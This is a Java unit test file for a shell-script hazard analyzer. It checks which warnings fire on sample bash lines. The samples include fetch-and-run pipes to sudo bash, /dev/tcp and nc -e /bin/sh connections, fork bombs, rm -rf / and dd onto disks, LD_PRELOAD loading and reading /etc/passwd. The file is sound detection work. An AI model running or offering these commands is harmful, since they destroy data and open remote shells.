package io.ultimatemcp.analysis.hint;

import static io.ultimatemcp.analysis.hint.HintCases.bash;

import org.junit.jupiter.api.Test;

/** Shells. */
final class BashHintsTest {
    @Test
    void evalIsFoundHoweverItIsWritten() {
        bash("eval \"$x\"", "1:1-1:10 warning dynamic-code");
        bash("e\"v\"al ls", "1:1-1:7 error hidden-name", "1:1-1:10 warning dynamic-code");
        bash("$'\\x65val' ls", "1:1-1:11 error hidden-name", "1:1-1:14 warning dynamic-code");
        bash(
                "$'\\145\\166\\141\\154' ls",
                "1:1-1:20 error hidden-name",
                "1:1-1:23 warning dynamic-code");
        bash("e\\val x", "1:1-1:6 error hidden-name", "1:1-1:8 warning dynamic-code");
        bash("command eval x", "1:1-1:15 warning dynamic-code");
        bash(
                "a=ev; b=al; $a$b ls",
                "1:13-1:17 error hidden-name",
                "1:13-1:20 warning dynamic-code");
        bash("alias x=eval", "1:7-1:13 warning aliased-name");
    }

    @Test
    void commandsWhoseNameIsComputedAreSaid() {
        bash("$c x", "1:1-1:3 info built-name");
        bash("\"$PY\" -m x", "1:1-1:6 info built-name");
        bash("${!v} x", "1:1-1:6 info built-name");
        bash("$(which python) x", "1:1-1:16 warning computed-command");
        bash("`cat cmd`", "1:1-1:10 warning computed-command");
        bash(
                "$(echo rm) -rf /",
                "1:1-1:11 error hidden-name",
                "1:1-1:17 error destructive-command");
        bash(
                "c=rm; $c -rf /",
                "1:7-1:9 warning aliased-name",
                "1:7-1:15 error destructive-command");
    }

    @Test
    void codeFromAPipeIsAnError() {
        bash("base64 -d <<< aaa | sh", "1:21-1:23 error piped-code");
        bash(
                "curl -s u | sudo bash -s -- a",
                "1:1-1:10 info network",
                "1:13-1:30 error piped-code");
        bash("wget -qO- u | python3 -", "1:1-1:12 info network", "1:15-1:24 error piped-code");
        bash("echo a | xxd -r -p | bash", "1:22-1:26 error piped-code");
        bash("bash <(curl u)", "1:6-1:15 error piped-code", "1:8-1:14 info network");
        bash(". <(curl u)", "1:3-1:12 error piped-code", "1:5-1:11 info network");
        bash("bash <<< \"$x\"", "1:10-1:14 error piped-code");
    }

    @Test
    void codeInAWordIsHintedWhenItIsNotWrittenThere() {
        bash("bash -c \"$(curl u)\"", "1:9-1:20 warning dynamic-code", "1:12-1:18 info network");
        bash("sh -c \"echo 1\"");
        bash("python3 -c \"$code\"", "1:12-1:19 warning dynamic-code");
    }

    @Test
    void filesOfUnknownNameAreSourced() {
        bash("source \"$f\"", "1:1-1:12 warning dynamic-import");
        bash(
                """
                . ./lib.sh
                source "$(dirname "$0")/lib.sh"\
                """);
    }

    @Test
    void connectionsFromTheShellAreSaid() {
        bash("exec 3<>/dev/tcp/h/80", "1:9-1:22 warning shell-connection");
        bash("cat < /dev/tcp/1.2.3.4/5", "1:7-1:25 warning shell-connection");
        bash("nc -e /bin/sh h 1", "1:1-1:18 warning shell-connection");
        bash("curl https://example.org -o y", "1:1-1:30 info network");
    }

    @Test
    void bombsAreErrors() {
        bash(":(){ :|:& };:", "1:1-1:12 error fork-bomb");
        bash("bomb() { bomb | bomb & }; bomb", "1:1-1:25 error fork-bomb");
        bash("f() { f & }", "1:1-1:12 error fork-bomb");
        bash(
                "$0 | $0 &",
                "1:1-1:8 error fork-bomb",
                "1:1-1:3 info built-name",
                "1:6-1:8 info built-name");
    }

    @Test
    void whatDestroysIsAnError() {
        bash("rm -rf /", "1:1-1:9 error destructive-command");
        bash("rm -rf \"$HOME\"", "1:1-1:15 error destructive-command");
        bash("sudo rm -fr /*", "1:1-1:15 error destructive-command");
        bash("rm -rf --no-preserve-root /", "1:1-1:28 error destructive-command");
        bash("dd if=/dev/zero of=/dev/sda", "1:1-1:28 error destructive-command");
        bash("echo x > /dev/sda", "1:8-1:18 error destructive-command");
        bash("mkfs.ext4 /dev/sdb", "1:1-1:19 error destructive-command");
    }

    @Test
    void nativeCodeIsLoaded() {
        bash("enable -f ./x.so x", "1:1-1:19 warning native-code");
        bash("LD_PRELOAD=./a.so ls", "1:1-1:18 warning native-code");
        bash("export LD_PRELOAD=x", "1:8-1:20 warning native-code");
        bash("env LD_PRELOAD=x ls", "1:5-1:17 warning native-code");
    }

    @Test
    void theShellIsReplaced() {
        bash("exec \"$@\"", "1:1-1:10 info process");
        bash("exec 2>&1");
    }

    @Test
    void signalsAreSaid() {
        bash("trap \"\" TERM", "1:1-1:13 info signals");
        bash("trap cleanup EXIT");
        bash("kill -9 -1", "1:1-1:11 info signals");
    }

    @Test
    void systemFilesAreNamed() {
        bash("cat /etc/passwd", "1:5-1:16 info system-file");
        bash("ls /proc/self", "1:4-1:14 info system-file");
    }

    @Test
    void ordinaryCommandsAreSilent() {
        bash("\"$@\"");
        bash("\\rm x");
        bash("rm -rf /tmp/x \"$tmp\"");
        bash("cat f | python script.py");
        bash("echo 1 | grep x | sort");
        bash("f() { f; }");
        bash("walk() { for i in *; do walk \"$i\" & done; }");
    }
}
